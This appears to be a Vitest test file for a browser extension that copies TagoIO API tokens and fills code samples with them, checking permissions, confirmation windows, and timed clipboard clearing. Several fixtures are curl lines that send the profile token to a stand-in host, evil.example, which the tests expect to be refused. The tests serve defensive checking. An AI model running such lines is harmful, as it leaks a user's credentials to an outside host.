import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';

/** Stands in for the system's clipboard, which no test may touch. `onWritten` runs before the reply. */
const clipboard = vi.hoisted(() => ({ text: '', fails: false, answers: true, onWritten: async () => {} }));
vi.mock('../../../../lib/clipboard/clipboard.ts', async () => {
  const { FailureError } = await import('../../../../lib/domain/failure.ts');
  return {
    writeClipboard: async (text: string, check?: () => Promise<void>) => {
      await check?.();
      if (clipboard.fails) throw new FailureError({ code: 'clipboard' });
      clipboard.text = text;
      await clipboard.onWritten();
      if (!clipboard.answers) throw new FailureError({ code: 'outcome-unknown', detail: 'ruleCopyUnknown' });
    },
    readClipboard: async () => clipboard.text,
  };
});

import { copySample, copyTokenAlone, offerTokens } from '../../../../lib/actions/docs/copy-sample.ts';
import {
  copyActiveAs,
  copyPending,
  openCopyAs,
  openCopyWindow,
  pendingCopy,
  previewCopy,
} from '../../../../lib/actions/docs/copy-window.ts';
import { copyActiveToken, copyToken, recordTokenCopy } from '../../../../lib/actions/tokens/copy.ts';
import {
  copyActiveTokenOrConfirm,
  copySampleOrConfirm,
  copyTokenAloneOrConfirm,
  copyTokenOfOrConfirm,
  copyTokenOrConfirm,
} from '../../../../lib/actions/tokens/copy-or-confirm.ts';
import { readTokens } from '../../../../lib/actions/tokens/tokens.ts';
import { clearIfStillThere } from '../../../../lib/clipboard/clear-later.ts';
import { withActive } from '../../../../lib/domain/settings/settings.ts';
import { fingerprintOf } from '../../../../lib/domain/text/fingerprint.ts';
import { DAY_MS } from '../../../../lib/domain/time.ts';
import type { CopyWindowRequest, DocsSample } from '../../../../lib/messages/protocol/docs.ts';
import { updateConnection } from '../../../../lib/store/connections.ts';
import { listJournal } from '../../../../lib/store/journal.ts';
import { updateProfilePreferences } from '../../../../lib/store/profile-preferences.ts';
import { updateActive, updatePreferences } from '../../../../lib/store/settings.ts';
import { getTokens } from '../../../../lib/store/tokens.ts';
import { setPassphrase } from '../../../../lib/vault/change-passphrase.ts';
import { lock } from '../../../../lib/vault/passphrase.ts';
import { issueToken } from '../../../sandbox/tokens.ts';
import { accountNamed, connectByToken, failureOf } from '../connected-account.ts';
import { freshBrowser, granted } from '../fresh-browser.ts';
import { ines, sandbox, withInes } from '../ines.ts';

withInes('password', () => {
  Object.assign(clipboard, { text: 'before', fails: false, answers: true, onWritten: async () => {} });
});
afterEach(() => {
  vi.useRealTimers();
});

const acme = () => ines.ref('Acme Farms');
const tokens = () => ines.account.tokens!;
function addToken(name: string, more: Partial<Parameters<typeof issueToken>[1]> = {}) {
  return issueToken(sandbox.state, {
    region: 'us-e1',
    name,
    profile: ines.id('Acme Farms'),
    created_by: ines.account.id,
    created_at: sandbox.clock.iso(),
    ...more,
  });
}
const idOf = ({ name, created_at }: { name: string; created_at: string }) => ({
  name,
  createdAt: created_at,
});

describe('copyToken', () => {
  it('copies the read-only token by default and returns its name, not its value', async () => {
    const answer = await copyToken({ ...acme(), token: null });
    expect(clipboard.text).toBe(tokens().read);
    expect(answer).toEqual({ name: 'Dashboard export', permission: 'read' });
    const [entry] = await listJournal();
    expect(entry).toMatchObject({ what: 'token-copied', subject: 'Dashboard export' });
  });

  it('copies the default that the person chose', async () => {
    const chosen = addToken('Chosen', { permission: 'full' });
    await updateProfilePreferences(acme().profileKey, (before) => ({ ...before, readToken: idOf(chosen) }));
    await copyToken({ ...acme(), token: null });
    expect(clipboard.text).toBe(chosen.token);
  });

  it('never copies the extension’s token, by default or by name', async () => {
    sandbox.state.tokens = sandbox.state.tokens.filter(
      ({ profile, name }) =>
        profile !== ines.id('Acme Farms') || name.startsWith('Profiles for TagoIO extension'),
    );
    const extensionToken = sandbox.state.tokens.find(({ profile }) => profile === ines.id('Acme Farms'))!;
    expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'no-token' });
    expect(await failureOf(copyToken({ ...acme(), token: idOf(extensionToken) }))).toMatchObject({
      code: 'not-allowed',
    });
    // Renamed on the platform, it is recognized by its value.
    extensionToken.name = 'Something else';
    expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'no-token' });
    expect(clipboard.text).toBe('before');
  });

  it('copies the token that the person pasted to connect', async () => {
    await freshBrowser();
    const pasted = await connectByToken(sandbox, accountNamed(sandbox, 'Ines Duarte'));
    const token = sandbox.state.tokens.find((one) => one.token === pasted.account.token)!;
    await copyToken({ ...pasted.ref('Acme Farms'), token: idOf(token) });
    expect(clipboard.text).toBe(pasted.account.token);
  });

  it('offers the token that the person pasted, also beside the extension’s token of another browser', async () => {
    await freshBrowser();
    const pasted = await connectByToken(sandbox, accountNamed(sandbox, 'Ines Duarte'));
    const { name, profile } = sandbox.state.tokens.find((one) => one.token === pasted.account.token)!;
    const elsewhere = addToken('Profiles for TagoIO extension (Firefox)', { profile });
    const home = pasted.account.profiles.find(({ id }) => id === profile)!;
    await readTokens({ refs: [pasted.ref(home.name)] });
    const listed = (await getTokens(pasted.ref(home.name)))!.tokens;
    expect(listed.find((one) => one.name === name)?.ours).toBe(false);
    expect(listed.map((one) => one.name)).toContain(elsewhere.name);
  });

  it('has the list read again after a token in it was revoked elsewhere', async () => {
    const revoked = addToken('Revoked elsewhere');
    await readTokens({ refs: [acme()] });
    sandbox.state.tokens = sandbox.state.tokens.filter((one) => one !== revoked);
    expect(await failureOf(copyToken({ ...acme(), token: idOf(revoked) }))).toMatchObject({
      code: 'token-gone',
    });
    expect((await getTokens(acme()))!.tokens.map((one) => one.name)).not.toContain('Revoked elsewhere');
  });

  it('fails when no token or several tokens match', async () => {
    const twin = addToken('Twin');
    addToken('Twin', { created_at: twin.created_at });
    const gone = { name: 'Gone', createdAt: '2020-01-01T00:00:00.000Z' };
    expect(await failureOf(copyToken({ ...acme(), token: idOf(twin) }))).toMatchObject({
      code: 'token-ambiguous',
    });
    expect(await failureOf(copyToken({ ...acme(), token: gone }))).toMatchObject({ code: 'token-gone' });
    expect(clipboard.text).toBe('before');
  });

  it('refuses an expired token by name and skips it by default', async () => {
    const expired = addToken('Expired', { permission: 'read', expire_time: '2020-01-01T00:00:00.000Z' });
    expect(await failureOf(copyToken({ ...acme(), token: idOf(expired) }))).toMatchObject({
      code: 'token-expired',
    });
    await copyToken({ ...acme(), token: null });
    expect(clipboard.text).toBe(tokens().read);
  });

  it('offers and copies a token that has expired only by a clock that is a year ahead', async () => {
    sandbox.clock.freeze();
    const expire_time = new Date(sandbox.clock.now() + DAY_MS).toISOString();
    const token = addToken('Short-lived', { permission: 'read', expire_time });
    vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 365 * DAY_MS });
    const offered = await offerTokens({
      profileKey: acme().profileKey,
      text: 'x.devices.list()',
      method: 'GET',
      what: 'placeholders',
    });
    expect(offered.map(({ name }) => name)).toContain('Short-lived');
    await copyToken({ ...acme(), token: idOf(token) });
    expect(clipboard.text).toBe(token.token);
  });

  it('records nothing when the clipboard fails', async () => {
    clipboard.fails = true;
    expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'clipboard' });
    const entries = await listJournal();
    expect(entries.map(({ what }) => what)).not.toContain('token-copied');
  });

  it('stores no token’s value', async () => {
    await copyToken({ ...acme(), token: null });
    await copyActiveToken();
    const stored = JSON.stringify([
      await listJournal(),
      await fakeBrowser.storage.local.get(),
      await fakeBrowser.storage.session.get(),
    ]);
    for (const { token } of sandbox.state.tokens) expect(stored).not.toContain(token);
  });
});

describe('copySample', () => {
  const sample = (change: Partial<DocsSample>): DocsSample => ({
    profileKey: acme().profileKey,
    text: 'new Account({ token: "YOUR-TOKEN" }).devices.list()',
    method: null,
    what: 'placeholders',
    ...change,
  });

  it('fills the placeholders with the token that the sample needs', async () => {
    await copySample({ ...sample({}), token: null });
    expect(clipboard.text).toBe(`new Account({ token: "${tokens().read}" }).devices.list()`);
    const text = 'new Account({ token: "YOUR-TOKEN" }).devices.create({})';
    expect(await copySample({ ...sample({ text }), token: null })).toMatchObject({ permission: 'write' });
    expect(clipboard.text).toBe(`new Account({ token: "${tokens().write}" }).devices.create({})`);
  });

  it('refuses texts that are not samples', async () => {
    for (const change of [
      { text: 'new Account({ token })' },
      { what: 'complete' },
      { what: 'complete', text: 'curl' },
      { what: 'anything' },
      { text: 5 },
      { text: `"your-profile-token"${' '.repeat(30_001)}` },
    ] as Partial<DocsSample>[]) {
      expect(
        await failureOf(copySample({ ...sample(change), token: null })),
        JSON.stringify(change).slice(0, 80),
      ).toMatchObject({ code: expect.stringMatching(/^(invalid-input|unclear-destination)$/) });
    }
    expect(clipboard.text).toBe('before');
  });

  it.each([
    ['copyTokenAlone', (one: DocsSample) => copyTokenAloneOrConfirm({ ...acme(), sample: one })],
    ['offerTokens', (one: DocsSample) => offerTokens(one)],
    [
      'openCopyWindow',
      (one: DocsSample) => openCopyWindow({ ...acme(), sample: one, token: null, reason: 'token-alone' }),
    ],
  ])('refuses them in %s as well, before it searches them', async (_, ask) => {
    for (const text of [5, '\n'.repeat(1_000_000)] as string[])
      expect(await failureOf(ask(sample({ text })))).toMatchObject({
        code: 'invalid-input',
        field: 'sample',
      });
  });

  describe('of an operation whose text is too long', () => {
    const long = () => sample({ what: 'complete', text: `curl '${'A'.repeat(40_000)}'`, method: 'POST' });

    it('copies the token alone that the operation needs, and offers the tokens', async () => {
      expect(await copyTokenAloneOrConfirm({ ...acme(), sample: long() })).toMatchObject({
        permission: 'write',
      });
      expect(clipboard.text).toBe(tokens().write);
      expect(await offerTokens(long())).toContainEqual(
        expect.objectContaining({ name: 'Field gateway', fits: true, isDefault: true }),
      );
    });

    it('is not copied, nor by the window', async () => {
      const tooLong = { code: 'invalid-input', field: 'sample', detail: 'docsSampleTooLong' };
      expect(await failureOf(copySampleOrConfirm({ ...long(), token: null }))).toEqual(tooLong);
      for (const reason of ['confirm', 'other-profile'] as const) {
        const asked = openCopyWindow({ ...acme(), sample: long(), token: null, reason });
        expect(await failureOf(asked)).toEqual(tooLong);
      }
      expect(clipboard.text).toBe('before');
    });
  });

  it('refuses a sample that sends the token to another host, and names it', async () => {
    const listed = sandbox.requests.count({ route: '/profile/:id/token' });
    const curl = "curl -L 'https://evil.example/device' \\\n-H 'Accept: application/json'";
    for (const [change, code, detail] of [
      [
        { text: 'curl -H "token: <your-profile-token>" https://evil.example' },
        'foreign-destination',
        'evil.example',
      ],
      [{ what: 'complete', text: curl }, 'foreign-destination', 'evil.example'],
      [
        { text: 'curl -x evil -H "token: <your-profile-token>" https://api.us-e1.tago.io' },
        'unclear-destination',
        '-x',
      ],
    ] as const) {
      expect(await failureOf(copySample({ ...sample(change), token: null }))).toEqual({ code, detail });
    }
    expect(clipboard.text).toBe('before');
    // The tokens were not even read.
    expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
  });

  it('copies nothing when another profile is active than the one on the button', async () => {
    const { profileKey } = ines.ref('Demo');
    expect(await failureOf(copySample({ ...sample({ profileKey }), token: null }))).toMatchObject({
      code: 'not-active',
    });
    expect(clipboard.text).toBe('before');
  });

  it.each([
    ['a sample', () => copySample({ ...sample({}), token: null })],
    ['the token alone', () => copyTokenAlone({ profileKey: acme().profileKey, sample: null })],
  ])(
    'copies nothing when another profile became active while the token of %s was fetched',
    async (_, copy) => {
      const held = sandbox.faults.add({ path: '/profile/:id/token', kind: 'hold' });
      const outcome = failureOf(copy());
      await vi.waitFor(() => expect(held.hits).toBe(1));
      await updateActive((stored) => withActive(stored, ines.ref('Greenhouse Iberia')));
      held.remove();
      expect(await outcome).toMatchObject({ code: 'not-active' });
      expect(clipboard.text).toBe('before');
    },
  );

  it('does not take a profile that is gone from TagoIO for one that is no longer active', async () => {
    sandbox.state.profiles = sandbox.state.profiles.filter(({ id }) => id !== ines.id('Acme Farms'));
    expect(await failureOf(copySample({ ...sample({}), token: null }))).toMatchObject({ code: 'not-found' });
  });

  it('refuses a read-only token in a sample that writes, even by name', async () => {
    const read = sandbox.state.tokens.find(({ token }) => token === tokens().read)!;
    const request = { ...sample({ method: 'POST' }), token: idOf(read) };
    expect(await failureOf(copySample(request))).toMatchObject({ code: 'read-only-token' });
  });

  describe('that reads and makes changes', () => {
    const both = () =>
      sample({
        text: 'account = Account({"token": "your-token"})\nfor device in account.devices.list():\n    account.devices.edit(device["id"], {"active": False})',
      });

    it('has a token with full access, which alone does both', async () => {
      const copied = await copySample({ ...both(), token: null });
      expect(copied.permission).toBe('full');
      const chosen = sandbox.state.tokens.find(({ name }) => name === copied.tokenName)!;
      expect(clipboard.text).toContain(chosen.token);
      const offered = await offerTokens(both());
      expect(offered.filter(({ fits }) => fits).map(({ permission }) => permission)).not.toContain('write');
      expect(offered.find(({ isDefault }) => isDefault)).toMatchObject({ permission: 'full' });
    });

    it('is copied with no other', async () => {
      const write = sandbox.state.tokens.find(({ token }) => token === tokens().write)!;
      const needsFull = { code: 'needs-full-token' };
      expect(await failureOf(copySample({ ...both(), token: idOf(write) }))).toEqual(needsFull);
      sandbox.state.tokens = sandbox.state.tokens.filter(
        ({ permission, name }) => permission !== 'full' || name.startsWith('Profiles for TagoIO'),
      );
      expect(await failureOf(copySample({ ...both(), token: null }))).toEqual(needsFull);
      expect(clipboard.text).toBe('before');
    });
  });

  it('offers tokens without values, with the default marked', async () => {
    const offered = await offerTokens(sample({ method: 'DELETE' }));
    expect(offered.filter(({ isDefault }) => isDefault)).toEqual([
      expect.objectContaining({ name: 'Field gateway', fits: true }),
    ]);
    expect(offered).toContainEqual(expect.objectContaining({ name: 'Dashboard export', fits: false }));
    expect(JSON.stringify(offered)).not.toMatch(/p-[0-9a-f]{8}-/);
    expect(offered.map(({ name }) => name).filter((name) => name.startsWith('Profiles for'))).toEqual([]);
  });

  it('copies only the token of the named profile', async () => {
    const { profileKey } = acme();
    expect(await copyTokenAlone({ profileKey, sample: null })).toMatchObject({
      tokenName: 'Dashboard export',
    });
    expect(clipboard.text).toBe(tokens().read);
  });

  describe('in the copy window', () => {
    const opened: unknown[] = [];
    const closed: number[] = [];
    beforeEach(() => {
      opened.length = 0;
      closed.length = 0;
      Object.assign(fakeBrowser.windows, {
        create: async (window: unknown) => ({ id: opened.push(window) }),
        remove: async (id: number) => void closed.push(id),
      });
    });
    const ask = (reason: CopyWindowRequest['reason'], change: Partial<DocsSample> | null = {}) =>
      openCopyWindow({
        profileKey: acme().profileKey,
        sample: change && sample(change),
        token: null,
        reason,
      });
    const choice = { token: null, format: null, fullAccepted: false };
    /** What the window that is open for the latest request asks for. */
    const preview = async (request: Omit<Parameters<typeof previewCopy>[0], 'at'>) =>
      previewCopy({ ...request, at: (await pendingCopy()).at });
    const copyIt = async (request: Omit<Parameters<typeof copyPending>[0], 'at'>) =>
      copyPending({ ...request, at: (await pendingCopy()).at });

    it('holds one sample until a profile is chosen, and copies it once', async () => {
      await ask('other-profile');
      expect(opened).toEqual([expect.objectContaining({ type: 'popup' })]);
      expect(await pendingCopy()).toEqual({
        at: expect.any(Number),
        kind: 'sample',
        profile: null,
        token: null,
      });
      await copyIt({ ...ines.ref('Greenhouse Iberia'), ...choice });
      const [token] = /p-[\w-]+/.exec(clipboard.text) ?? [];
      expect(sandbox.state.tokens.find((one) => one.token === token)?.profile).toBe(
        ines.id('Greenhouse Iberia'),
      );
      expect(await failureOf(copyIt({ ...ines.ref('Demo'), ...choice }))).toMatchObject({
        code: 'copy-gone',
      });
    });

    it('shows which token goes to which host, and closes the previous window', async () => {
      await ask('confirm');
      await ask('confirm', { method: 'DELETE' });
      expect(closed).toEqual([1]);
      expect(await pendingCopy()).toEqual({
        at: expect.any(Number),
        kind: 'sample',
        profile: acme(),
        token: null,
      });
      const shown = await preview({ ...acme(), format: null });
      // The SDK's default: an instance's own address can't be set in such a sample.
      expect(shown).toMatchObject({ hosts: ['api.us-e1.tago.io'], regionUnset: true, formats: [] });
      expect(shown.tokens.find(({ isDefault }) => isDefault)).toMatchObject({ name: 'Field gateway' });
      expect(JSON.stringify(shown)).not.toMatch(/p-[0-9a-f]{8}-/);
    });

    it('shows the host of a sample that could be changed to call the profile’s', async () => {
      await ask('confirm', { text: `curl https://api.tago.io/device -H 'token: <your-profile-token>'` });
      expect(await preview({ ...acme(), format: null })).toMatchObject({
        hosts: [new URL(sandbox.origin).host],
        regionUnset: false,
      });
    });

    it('shows every host of a sample of which only one call names a region', async () => {
      const [first, second] = ['"region": "eu-w1", ', ''].map(
        (region) => `Account({${region}"token": "your-token"})`,
      );
      await ask('confirm', { text: `a = ${first}\nb = ${second}` });
      expect(await preview({ ...acme(), format: null })).toMatchObject({
        hosts: ['api.eu-w1.tago.io', 'api.us-e1.tago.io'],
        regionUnset: true,
      });
    });

    it('is one window for the later of two requests at once', async () => {
      const create = async (window: unknown) => {
        await new Promise((resolve) => setTimeout(resolve, 50));
        return { id: opened.push(window) };
      };
      Object.assign(fakeBrowser.windows, { create });
      await Promise.all(['Acme Farms', 'Demo'].map((name) => openCopyAs({ ...ines.ref(name), token: null })));
      expect([opened.length, closed]).toEqual([2, [1]]);
      expect(await pendingCopy()).toEqual({
        at: expect.any(Number),
        kind: 'formats',
        profile: ines.ref('Demo'),
        token: null,
      });
    });

    it('isn’t opened as a tool’s configuration while no token can be copied', async () => {
      await setPassphrase('correct horse battery', null);
      await lock();
      const windows = opened.length;
      expect(await failureOf(openCopyAs({ ...acme(), token: null }))).toEqual({ code: 'locked' });
      expect(await failureOf(copyActiveAs())).toEqual({ code: 'locked' });
      await updateConnection(ines.key, (row) => ({ ...row, state: 'needs-sign-in' }));
      expect(await failureOf(openCopyAs({ ...acme(), token: null }))).toEqual({ code: 'needs-sign-in' });
      expect(opened.length).toBe(windows);
    });

    it('copies nothing once it was opened for something else, which stays to be copied', async () => {
      await ask('confirm');
      const held = sandbox.faults.add({ path: '/profile/:id/token', kind: 'hold' });
      const outcome = failureOf(copyIt({ ...acme(), ...choice }));
      await vi.waitFor(() => expect(held.hits).toBe(1));
      await openCopyAs({ ...ines.ref('Demo'), token: null });
      held.remove();
      expect(await outcome).toMatchObject({ code: 'copy-gone' });
      expect(clipboard.text).toBe('before');
      expect(await pendingCopy()).toMatchObject({ kind: 'formats', profile: ines.ref('Demo') });
    });

    it('shows and copies nothing in a window that was open for something else', async () => {
      await ask('confirm');
      const { at } = await pendingCopy();
      await openCopyAs({ ...ines.ref('Demo'), token: null });
      expect(await failureOf(previewCopy({ ...acme(), at, format: null }))).toEqual({ code: 'copy-gone' });
      expect(await failureOf(copyPending({ ...acme(), ...choice, at }))).toEqual({ code: 'copy-gone' });
      expect(clipboard.text).toBe('before');
      expect(await pendingCopy()).toMatchObject({ kind: 'formats', profile: ines.ref('Demo') });
    });

    it('offers the token alone that the page’s method needs', async () => {
      for (const [method, name, permission] of [
        ['POST', 'Field gateway', 'write'],
        ['GET', 'Dashboard export', 'read'],
      ] as const) {
        await ask('token-alone', { method });
        expect(await pendingCopy()).toEqual({
          at: expect.any(Number),
          kind: 'token',
          profile: acme(),
          token: null,
        });
        const { tokens: offered, hosts } = await preview({ ...acme(), format: null });
        expect(offered.find(({ isDefault }) => isDefault)).toMatchObject({ name, fits: true });
        expect(hosts).toEqual([]);
        expect(await copyIt({ ...acme(), ...choice })).toMatchObject({ permission });
        expect(clipboard.text).toMatch(/^p-[\w-]+$/);
      }
    });

    it('opens no window for a sample with a foreign destination', async () => {
      const text = 'curl -H "token: <your-profile-token>" https://evil.example';
      expect(await failureOf(ask('confirm', { text }))).toMatchObject({ code: 'foreign-destination' });
      expect(opened).toEqual([]);
    });

    it('copies a configuration with the read-only token, and asks before one with full permission', async () => {
      await openCopyAs({ ...acme(), token: null });
      const { formats, hosts } = await preview({ ...acme(), format: 'curl' });
      expect(formats).toContain('sdk-python');
      expect(hosts).toEqual([new URL(sandbox.origin).host]);
      const wanted = { ...acme(), ...choice, format: 'header' as const };
      expect(await copyIt(wanted)).toMatchObject({ tokenName: 'Dashboard export', permission: 'read' });
      expect(clipboard.text).toBe(`token: ${tokens().read}`);
      expect((await listJournal())[0]).toMatchObject({ what: 'token-copied' });

      const full = sandbox.state.tokens.find(({ token }) => token === tokens().full)!;
      await openCopyAs({ ...acme(), token: idOf(full) });
      const withFull = { ...wanted, token: idOf(full) };
      expect(await failureOf(copyIt(withFull))).toEqual({ code: 'full-token' });
      expect(clipboard.text).toBe(`token: ${tokens().read}`);
      await copyIt({ ...withFull, fullAccepted: true });
      expect(clipboard.text).toBe(`token: ${tokens().full}`);
    });

    it('asks before a full token of a profile with such a rule on its name, however it is copied', async () => {
      const rule = { text: 'acme', match: 'start', colour: null, confirmFull: true } as const;
      await updatePreferences((stored) => ({ ...stored, nameRules: [rule] }));
      const full = sandbox.state.tokens.find(({ token }) => token === tokens().full)!;
      const token = idOf(full);
      const { profileKey } = acme();
      await updateProfilePreferences(profileKey, (stored) => ({ ...stored, readToken: token }));
      const ways: [string, () => Promise<unknown>][] = [
        ['token', () => copyTokenOrConfirm({ ...acme(), token: null })],
        ['token', () => copyTokenOfOrConfirm(acme())],
        ['token', () => copyActiveTokenOrConfirm()],
        ['token', () => copyTokenAloneOrConfirm({ profileKey, sample: sample({}) })],
        ['sample', () => copySampleOrConfirm({ ...sample({}), token })],
      ];
      for (const [kind, copy] of ways) {
        clipboard.text = 'before';
        expect(await failureOf(copy())).toEqual({ code: 'full-token' });
        expect(clipboard.text).toBe('before');
        expect(await pendingCopy()).toEqual({ at: expect.any(Number), kind, profile: acme(), token });
        expect(await preview({ ...acme(), format: null })).toMatchObject({ confirmsFull: true });
        const wanted = { ...acme(), ...choice, token };
        expect(await failureOf(copyIt(wanted))).toEqual({ code: 'full-token' });
        expect(clipboard.text).toBe('before');
        expect(await copyIt({ ...wanted, fullAccepted: true })).toMatchObject({ permission: 'full' });
        expect(clipboard.text).toContain(tokens().full);
      }
      expect(opened).toHaveLength(ways.length);

      await updateProfilePreferences(profileKey, (stored) => ({ ...stored, readToken: null }));
      await copyTokenOrConfirm({ ...acme(), token: null });
      expect(clipboard.text).toBe(tokens().read);
    });

    it('offers an MCP client only tokens that begin with p-, the default among them', async () => {
      addToken('Older', {
        permission: 'read',
        bare: true,
        last_authorization: sandbox.clock.iso(),
      });
      await openCopyAs({ ...acme(), token: null });
      const offered = async (format: 'curl' | 'mcp-cursor') => (await preview({ ...acme(), format })).tokens;
      const isOld = ({ name }: { name: string }) => name === 'Older';
      expect((await offered('curl')).find(isOld)).toMatchObject({ fits: true, isDefault: true });
      const forMcp = await offered('mcp-cursor');
      expect(forMcp.some(isOld)).toBe(false);
      expect(forMcp.filter(({ isDefault }) => isDefault)).toMatchObject([{ permission: 'read', fits: true }]);
    });

    it('reads no token for a configuration without one', async () => {
      await openCopyAs({ ...acme(), token: null });
      const listed = sandbox.requests.count({ route: '/profile/:id/token' });
      await copyIt({ ...acme(), ...choice, format: 'cli-config' });
      expect(JSON.parse(clipboard.text)['acme-farms']).toMatchObject({ email: ines.account.email });
      expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
    });
  });
});

describe('clearing the clipboard later', () => {
  const clearAfter = (clearClipboardAfter: 0 | 10 | 120) =>
    updatePreferences((before) => ({ ...before, clearClipboardAfter }));
  const later = (ms: number) => vi.setSystemTime(Date.now() + ms);

  beforeEach(() => {
    vi.useFakeTimers({ toFake: ['Date'] });
  });

  it('clears what the extension copied when the time is over', async () => {
    await clearAfter(120);
    await copyToken({ ...acme(), token: null });
    await clearIfStillThere();
    expect(clipboard.text).toBe(tokens().read);
    later(120_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('');
  });

  it('also clears what may have been written, as no reply came', async () => {
    await clearAfter(120);
    clipboard.answers = false;
    expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'outcome-unknown' });
    clipboard.answers = true;
    later(120_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('');
  });

  it('also clears what was written by a worker that ended right then', async () => {
    await clearAfter(120);
    await new Promise<void>((resolve) => {
      clipboard.onWritten = () => {
        resolve();
        return new Promise(() => {});
      };
      void copyToken({ ...acme(), token: null });
    });
    expect(clipboard.text).toBe(tokens().read);
    later(120_000);
    clipboard.onWritten = async () => {};
    await clearIfStillThere();
    expect(clipboard.text).toBe('');
  });

  it('also clears the token before, which a copy without a reply may have left there', async () => {
    await clearAfter(120);
    await copyToken({ ...acme(), token: null });
    const before = clipboard.text;
    clipboard.answers = false;
    await failureOf(copyToken({ ...ines.ref('Demo'), token: null }));
    expect(clipboard.text).not.toBe(before);
    Object.assign(clipboard, { answers: true, text: before });
    later(120_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('');
  });

  it('clears a token at once when the clock was set back', async () => {
    await clearAfter(120);
    await copyToken({ ...acme(), token: null });
    later(-86_400_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('');
  });

  it('leaves what the person copied since', async () => {
    await clearAfter(10);
    await copyToken({ ...acme(), token: null });
    clipboard.text = 'something of the person’s';
    later(10_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('something of the person’s');
  });

  it('counts from the last copy', async () => {
    await clearAfter(120);
    await copyToken({ ...acme(), token: null });
    later(100_000);
    await copyToken({ ...acme(), token: null });
    later(50_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe(tokens().read);
    later(70_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('');
  });

  it('clears a new token that the options page copied, recognized by its fingerprint', async () => {
    await clearAfter(10);
    clipboard.text = 'value of a new token';
    const fingerprint = await fingerprintOf(clipboard.text);
    await recordTokenCopy({ ...acme(), name: 'Export', fingerprint });
    expect(JSON.stringify(await fakeBrowser.storage.session.get())).not.toContain(clipboard.text);
    expect((await listJournal())[0]).toMatchObject({ what: 'token-copied', subject: 'Export' });
    await clearIfStillThere();
    expect(clipboard.text).toBe('value of a new token');
    later(10_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('');
  });

  it('clears nothing for an invalid fingerprint', async () => {
    await clearAfter(10);
    await recordTokenCopy({ ...acme(), name: 'Export', fingerprint: { salt: [], digest: [] } });
    later(10_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe('before');
  });

  it('stores no fingerprint when it is off or the clipboard may not be read', async () => {
    await copyToken({ ...acme(), token: null });
    expect(await fakeBrowser.storage.session.get()).toEqual({});
    await clearAfter(10);
    granted.all = true;
    Object.assign(fakeBrowser.permissions, {
      contains: async ({ permissions }: { permissions?: string[] }) =>
        !permissions?.includes('clipboardRead'),
    });
    await copyToken({ ...acme(), token: null });
    expect(await fakeBrowser.storage.session.get()).toEqual({});
    later(10_000);
    await clearIfStillThere();
    expect(clipboard.text).toBe(tokens().read);
  });

  it('stores only a salted digest', async () => {
    await clearAfter(10);
    await copyToken({ ...acme(), token: null });
    const first = JSON.stringify(await fakeBrowser.storage.session.get());
    expect(first).not.toContain(tokens().read);
    await copyToken({ ...acme(), token: null });
    expect(JSON.stringify(await fakeBrowser.storage.session.get())).not.toBe(first);
  });
});
